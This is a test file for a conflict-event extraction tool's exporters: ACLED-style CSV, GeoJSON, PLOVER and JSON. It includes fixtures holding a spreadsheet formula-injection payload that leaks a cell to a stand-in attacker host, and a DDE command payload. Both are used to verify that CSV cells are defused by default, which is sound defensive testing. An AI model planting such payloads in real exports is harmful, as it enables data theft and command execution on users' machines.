"""Exports: ACLED-style CSV, GeoJSON, PLOVER JSON Lines and JSON over realistic events."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
from pathlib import Path
from typing import Any, get_args

import pytest
from typer.testing import CliRunner

from flashpoint.cli import app
from flashpoint.errors import FlashpointError
from flashpoint.export import (
    CSV_COLUMNS,
    FORMATS,
    acled,
    event_records,
    export,
    tables,
    to_csv,
    to_geojson,
    to_json,
    to_plover,
)
from flashpoint.store import EventFilter, open_store
from flashpoint.types import (
    Actor,
    ActorKind,
    Article,
    Casualties,
    Count,
    DateInfo,
    Event,
    EventType,
    Extraction,
    Location,
)

from .test_store import corpus, sentence_of, span

# ACLED's published taxonomy (codebook, 2023): six event types, 25 sub-event types.
ACLED_TYPES = {
    "Battles": {
        "Armed clash",
        "Government regains territory",
        "Non-state actor overtakes territory",
    },
    "Explosions/Remote violence": {
        "Chemical weapon",
        "Air/drone strike",
        "Suicide bomb",
        "Shelling/artillery/missile attack",
        "Remote explosive/landmine/IED",
        "Grenade",
    },
    "Violence against civilians": {"Sexual violence", "Attack", "Abduction/forced disappearance"},
    "Protests": {
        "Peaceful protest",
        "Protest with intervention",
        "Excessive force against protesters",
    },
    "Riots": {"Violent demonstration", "Mob violence"},
    "Strategic developments": {
        "Agreement",
        "Arrests",
        "Change to group/activity",
        "Disrupted weapons use",
        "Headquarters or base established",
        "Looting/property destruction",
        "Non-violent transfer of territory",
        "Other",
    },
}
# ACLED's actor types as its data writes them since text labels replaced the 1-8 codes (the
# labels its API's interaction codes carry: "State forces-Rebel group" = 12, ...).
ACLED_INTER = {
    "State forces",
    "Rebel group",
    "Political militia",
    "Identity militia",
    "Rioters",
    "Protesters",
    "Civilians",
    "External/Other forces",
}
PLOVER_SECTORS = {
    "GOV",
    "JUD",
    "LEG",
    "MIL",
    "COP",
    "OPP",
    "PTY",
    "REB",
    "PRM",
    "SPY",
    "UAF",
    "CVL",
    "ELI",
    "BUS",
    "EDU",
    "MED",
    "LAB",
    "AGR",
    "JRN",
    "REF",
    "REL",
    "SOC",
    "CRM",
}

GAO_TEXT = (
    'Gunmen opened fire on a market in Gao on Friday, killing "at least 12" people, a local '
    'official said, adding:\n=HYPERLINK("x") was painted nearby. Soldiers later clashed with '
    "the gunmen outside Gao."
)


def gao_extraction() -> Extraction:
    art = Article(
        "gao-market",
        GAO_TEXT,
        "feed",
        "https://example.org/gao",
        "Gao attack",
        None,
        dt.date(2024, 3, 2),
        "en",
    )
    where = Location(
        "Gao", "Gao", 16.27167, -0.04472, "MLI", "Gao", "city", 2457163, span(GAO_TEXT, "Gao")
    )
    when = DateInfo(
        dt.date(2024, 3, 1),
        dt.date(2024, 3, 1),
        "day",
        text="Friday",
        span=span(GAO_TEXT, "Friday"),
    )
    first = sentence_of(art, "opened fire")
    market = Event(
        "ev-gao-market",
        "ASSAULT",
        "firearms",
        "asserted",
        actors=[
            Actor(
                "source", "Gunmen", "Unidentified gunmen", "MLI", "other", span(GAO_TEXT, "Gunmen")
            ),
            Actor("target", "people", "Civilians", "MLI", "civilians", span(GAO_TEXT, "people")),
        ],
        date=when,
        location=where,
        casualties=Casualties(killed=Count(12, 12, None)),
        evidence=[first],
    )
    clash = Event(
        "ev-gao-clash",
        "ASSAULT",
        "firearms",
        "asserted",
        actors=[
            Actor(
                "source",
                "Soldiers",
                "Armed Forces of Mali",
                "MLI",
                "military",
                span(GAO_TEXT, "Soldiers"),
            ),
            Actor(
                "target",
                "the gunmen",
                "Unidentified gunmen",
                "MLI",
                "other",
                span(GAO_TEXT, "the gunmen"),
            ),
        ],
        date=when,
        location=where,
        evidence=[sentence_of(art, "Soldiers later")],
    )
    threat = Event("ev-gao-threat", "THREATEN", None, "future", evidence=[first])
    return Extraction(art, [market, clash, threat])


def records() -> list[dict[str, Any]]:
    return event_records([*corpus(), gao_extraction()])


# A publisher name as a hostile page can set it: a spreadsheet runs it when the CSV is opened.
FORMULA_PUBLISHER = '=HYPERLINK("https://attacker.example/?leak="&A1,"Gao")'


def formula_extraction() -> Extraction:
    """The Gao report under a publisher name that is a spreadsheet formula."""
    ex = gao_extraction()
    return Extraction(dataclasses.replace(ex.article, publisher=FORMULA_PUBLISHER), ex.events)


def csv_rows(text: str) -> dict[str, dict[str, str]]:
    reader = csv.DictReader(io.StringIO(text))
    assert reader.fieldnames == list(CSV_COLUMNS)
    return {row["event_id"]: row for row in reader}


# -- CSV ----------------------------------------------------------------------------------------


def test_csv_parses_with_one_row_per_event() -> None:
    evs = records()
    rows = csv_rows(to_csv(evs))
    assert set(rows) == {e["id"] for e in evs}
    for row in rows.values():
        assert None not in row.values()  # no ragged rows


def test_csv_acled_mapping_for_remote_violence_and_claims() -> None:
    rows = csv_rows(to_csv(records()))
    strike = rows["ev-iraq-strike"]
    assert (strike["disorder_type"], strike["event_type"], strike["sub_event_type"]) == (
        "Political violence",
        "Explosions/Remote violence",
        "Air/drone strike",
    )
    assert (strike["actor1"], strike["inter1"], strike["actor2"], strike["inter2"]) == (
        "United States",
        "State forces",
        "Kataib Hezbollah",
        "Political militia",
    )
    assert strike["interaction"] == "State forces-Political militia"
    assert (strike["iso"], strike["country"], strike["iso3"]) == ("368", "Iraq", "IRQ")
    assert (strike["event_date"], strike["year"], strike["time_precision"]) == (
        "2024-01-23",
        "2024",
        "1",
    )
    assert strike["geo_precision"] == "3"
    assert strike["event_id_cnty"] == "IRQ-ev-iraq-strike"
    assert strike["source"] == "Anadolu Agency"
    assert strike["notes"].startswith("The US carried out strikes on Tuesday")
    assert (strike["fatalities"], strike["deaths_best"]) == ("0", "")

    missiles = rows["ev-asad-missiles"]
    assert missiles["sub_event_type"] == "Shelling/artillery/missile attack"
    assert missiles["actor1"] == "Islamic Resistance in Iraq"  # the claimant stands in
    assert (missiles["location"], missiles["admin1"], missiles["geo_precision"]) == (
        "Ain al-Asad Air Base",
        "Al Anbar",
        "1",
    )
    assert float(missiles["latitude"]) == pytest.approx(33.78581)
    assert float(missiles["longitude"]) == pytest.approx(42.44116)


def test_csv_civilian_targeting_and_casualty_ranges() -> None:
    rows = csv_rows(to_csv(records()))
    djibo = rows["ev-djibo-convoy"]
    assert djibo["sub_event_type"] == "Remote explosive/landmine/IED"
    assert djibo["civilian_targeting"] == "Civilian targeting"
    assert djibo["actor2"] == "Civilians (Burkina Faso)"
    assert djibo["inter2"] == "Civilians"
    assert (
        djibo["fatalities"],
        djibo["deaths_low"],
        djibo["deaths_best"],
        djibo["deaths_high"],
    ) == (
        "35",
        "35",
        "35",
        "",
    )
    assert djibo["injuries_best"] == "37"

    market, clash = rows["ev-gao-market"], rows["ev-gao-clash"]
    assert (market["event_type"], market["sub_event_type"]) == (
        "Violence against civilians",
        "Attack",
    )
    assert (clash["event_type"], clash["sub_event_type"]) == ("Battles", "Armed clash")
    assert clash["civilian_targeting"] == ""
    assert clash["interaction"] == "State forces-External/Other forces"
    assert market["source"] == "example.org"  # no publisher: the URL's host


def test_csv_protests_arrests_and_strategic_developments() -> None:
    rows = csv_rows(to_csv(records()))
    march = rows["ev-nairobi-march"]
    assert (march["disorder_type"], march["event_type"], march["sub_event_type"]) == (
        "Demonstrations",
        "Protests",
        "Peaceful protest",
    )
    assert (march["actor1"], march["assoc_actor_1"], march["inter1"]) == (
        "Protesters (Kenya)",
        "Protesters",
        "Protesters",
    )
    assert march["interaction"] == "Protesters only"
    arrests = rows["ev-nairobi-arrests"]
    assert (arrests["event_type"], arrests["sub_event_type"]) == (
        "Strategic developments",
        "Arrests",
    )
    assert (arrests["actor2"], arrests["fatalities"]) == ("Civilians (Kenya)", "2")
    assert rows["ev-apia-dispersal"]["sub_event_type"] == "Other"
    assert rows["ev-gao-threat"]["sub_event_type"] == "Other"
    assert rows["ev-gao-threat"]["modality"] == "future"


def test_csv_time_and_geo_precision_codes() -> None:
    rows = csv_rows(to_csv(records()))
    red_sea = rows["ev-red-sea"]
    assert (red_sea["time_precision"], red_sea["geo_precision"], red_sea["country"]) == (
        "3",
        "3",
        "",
    )
    assert rows["ev-apia-dispersal"]["time_precision"] == "3"  # month
    assert rows["ev-nairobi-march"]["geo_precision"] == "1"  # city
    undated = rows["ev-bogota-bomb"]
    assert (undated["event_date"], undated["year"], undated["time_precision"]) == ("", "", "")
    assert acled.time_precision({"precision": "week"}) == 2
    short = {"precision": "range", "start": "2024-01-01", "end": "2024-01-07"}
    assert acled.time_precision(short) == 2
    assert acled.time_precision({**short, "end": "2024-01-08"}) == 3
    assert acled.time_precision({"precision": "unknown"}) is None


def test_csv_keeps_awkward_text_intact_and_can_defuse_formulas() -> None:
    evs = records()
    rows = csv_rows(to_csv(evs))
    expected = next(e for e in evs if e["id"] == "ev-gao-market")["evidence"][0]["sentence"]
    assert '"at least 12"' in expected and "\n=HYPERLINK" in expected
    assert rows["ev-gao-market"]["notes"] == expected
    assert rows["ev-gao-clash"]["notes"] == "Soldiers later clashed with the gunmen outside Gao."
    formula = dict(
        evs[-1],
        evidence=[
            {"article_id": "gao-market", "start": 0, "end": 5, "sentence": "=cmd|'/c calc'!A1"}
        ],
    )
    raw = csv_rows(to_csv([formula], spreadsheet_safe=False))["ev-gao-threat"]
    safe = csv_rows(to_csv([formula]))["ev-gao-threat"]  # safe is the default
    assert raw["notes"] == "=cmd|'/c calc'!A1"
    assert safe["notes"] == "'=cmd|'/c calc'!A1"
    assert safe["event_date"] == raw["event_date"]


def test_events_cli_csv_is_spreadsheet_safe_unless_told_otherwise(tmp_path: Path) -> None:
    db = tmp_path / "formula.db"
    with open_store(db) as store:
        store.add([formula_extraction()])
    runner = CliRunner()
    args = ["events", "--db", str(db), "--format", "csv"]
    safe = runner.invoke(app, args)
    raw = runner.invoke(app, [*args, "--no-spreadsheet-safe"])
    assert safe.exit_code == 0 and raw.exit_code == 0, (safe.output, raw.output)
    safe_rows, raw_rows = csv_rows(safe.stdout), csv_rows(raw.stdout)
    assert len(safe_rows) == 3
    assert {r["source"] for r in safe_rows.values()} == {"'" + FORMULA_PUBLISHER}
    assert {r["source"] for r in raw_rows.values()} == {FORMULA_PUBLISHER}
    # only the cells a spreadsheet would run change
    assert [r["notes"] for r in safe_rows.values()] == [r["notes"] for r in raw_rows.values()]


def test_csv_from_store_matches_fresh_extractions(tmp_path: Path) -> None:
    extractions = [*corpus(), gao_extraction()]
    before = int(dt.datetime.now(dt.UTC).timestamp())
    with open_store(tmp_path / "e.db") as store:
        store.add(extractions)
        stored = csv_rows(to_csv(store.query_events(EventFilter(limit=None))))
    after = int(dt.datetime.now(dt.UTC).timestamp())
    fresh = csv_rows(to_csv(event_records(extractions)))
    assert stored.keys() == fresh.keys()
    for event_id, row in stored.items():
        assert row.pop("source_count") == "1"
        fresh[event_id].pop("source_count")
        # ACLED's timestamp: when the row was written (Unix seconds); fresh events have none
        assert before - 1 <= int(row.pop("timestamp")) <= after + 1
        assert fresh[event_id].pop("timestamp") == ""
        assert row == fresh[event_id]


# -- GeoJSON -----------------------------------------------------------------------------------


def test_geojson_is_a_valid_feature_collection_in_lon_lat_order() -> None:
    evs = records()
    doc = json.loads(to_geojson(evs))
    assert doc["type"] == "FeatureCollection"
    located = {e["id"]: e for e in evs if e.get("location")}
    assert {f["id"] for f in doc["features"]} == set(located)
    for feature in doc["features"]:
        assert feature["type"] == "Feature"
        assert feature["geometry"]["type"] == "Point"
        lon, lat = feature["geometry"]["coordinates"]
        loc = located[feature["id"]]["location"]
        assert (lon, lat) == (loc["lon"], loc["lat"])
        assert -180 <= lon <= 180 and -90 <= lat <= 90
        props = feature["properties"]
        assert props["id"] == feature["id"]
        assert all(not isinstance(v, (dict, list)) for v in props.values())
    nairobi = next(f for f in doc["features"] if f["id"] == "ev-nairobi-march")
    assert nairobi["geometry"]["coordinates"] == [36.81667, -1.28333]
    assert nairobi["properties"]["sources"] == "Protesters"
    assert nairobi["properties"]["publisher"] == "Daily Nation"


def test_geojson_skips_events_without_usable_points() -> None:
    ev = records()[0]
    broken = dict(ev, id="ev-off-earth", location=dict(ev["location"], lat=123.0))
    doc = json.loads(to_geojson([broken, dict(ev, id="ev-nowhere", location=None), ev]))
    assert [f["id"] for f in doc["features"]] == [ev["id"]]


# -- PLOVER ------------------------------------------------------------------------------------


def test_plover_lines_follow_plover_and_polecat_fields() -> None:
    evs = records()
    text = to_plover(evs)
    assert text.endswith("\n")
    lines = [json.loads(line) for line in text.splitlines()]
    assert len(lines) == len(evs)
    by_id = {r["id"]: r for r in lines}
    strike = by_id["ev-iraq-strike"]
    assert (strike["event_type"], strike["mode"], strike["quad_code"]) == (
        "ASSAULT",
        "airstrike",
        4,
    )
    assert strike["event_date"] == "2024-01-23" and strike["context"] == []
    assert strike["actor"][0]["code"] == "USA" and strike["actor"][0]["sector"] is None
    target = strike["recipient"][0]
    assert (target["name"], target["sector"], target["sponsor"]) == (
        "Kataib Hezbollah",
        "PRM",
        "IRN",
    )
    assert strike["geolocation"]["geonames_id"] == 99237
    assert strike["cite_info"]["publication"] == "Anadolu Agency"
    assert strike["event_text"] == [evs[0]["evidence"][0]["sentence"]]
    kherson = by_id["ev-kherson-reuters"]
    assert (kherson["dead"], kherson["injured"]) == (3, 11)
    assert kherson["actor"][0]["sector"] == "MIL"
    geo = kherson["geolocation"]
    assert (geo["placename"], geo["province"], geo["latitude"], geo["longitude"]) == (
        "Kherson",
        "Kherson",
        46.63695,
        32.61458,
    )
    assert by_id["ev-gao-threat"]["context"] == ["future"]
    assert by_id["ev-gao-threat"]["quad_code"] == 3
    assert by_id["ev-djibo-claim"]["context"] == ["negation"]
    assert by_id["ev-djibo-claim"]["claimant"][0]["sector"] == "REB"
    assert by_id["ev-bogota-bomb"]["context"] == ["future"]
    assert by_id["ev-djibo-claim"]["geolocation"] is None


# -- JSON and dispatch -------------------------------------------------------------------------


def test_json_is_the_contract_events_unchanged() -> None:
    evs = records()
    doc = json.loads(to_json(evs))
    assert doc == {"events": evs}
    contract = [e.to_dict() for ex in corpus() for e in ex.events]
    assert [{k: e[k] for k in c} for e, c in zip(doc["events"], contract, strict=False)] == contract


def test_export_dispatch() -> None:
    evs = records()[:3]
    assert export(evs, "CSV") == to_csv(evs)
    assert {fmt: bool(export(evs, fmt)) for fmt in FORMATS} == dict.fromkeys(FORMATS, True)
    with pytest.raises(FlashpointError) as err:
        export(evs, "xlsx")
    assert err.value.code == "E071"


# -- mapping tables ----------------------------------------------------------------------------


def test_mapping_tables_use_only_real_codes() -> None:
    kinds = set(get_args(ActorKind))
    for plover_type in get_args(EventType):
        for mode in (None, "airstrike", "firearms", "riot", "arrest", "release"):
            for targets in (set(), {"civilians"}):
                mapped = tables.acled_type(plover_type, mode, targets)
                assert mapped.sub_event_type in ACLED_TYPES[mapped.event_type]
                assert mapped.disorder_type in {
                    "Political violence",
                    "Demonstrations",
                    "Strategic developments",
                }
    for row in tables._type_rules():
        assert row.result.sub_event_type in ACLED_TYPES[row.result.event_type], row
        assert row.plover_type == "*" or row.plover_type in get_args(EventType), row
        assert row.target == "*" or row.target in kinds, row
    assert set(tables._kinds()) == kinds
    for kind in kinds:
        codes = tables.kind_codes(kind)
        assert codes.acled_inter in ACLED_INTER
        assert codes.plover_sector in PLOVER_SECTORS | {""}
        assert codes.plover_code in {"", "IGO", "NGO"}


def test_country_names_use_acled_spelling() -> None:
    assert tables.country_name("RUS") == "Russia"
    assert tables.country_name("COD") == "Democratic Republic of Congo"
    assert tables.country_name("IRN") == "Iran"
    assert tables.country_name("ZZZ") == "" and tables.country_name(None) == ""
    assert tables.country_numeric("UKR") == "804" and tables.country_numeric("XKX") == ""
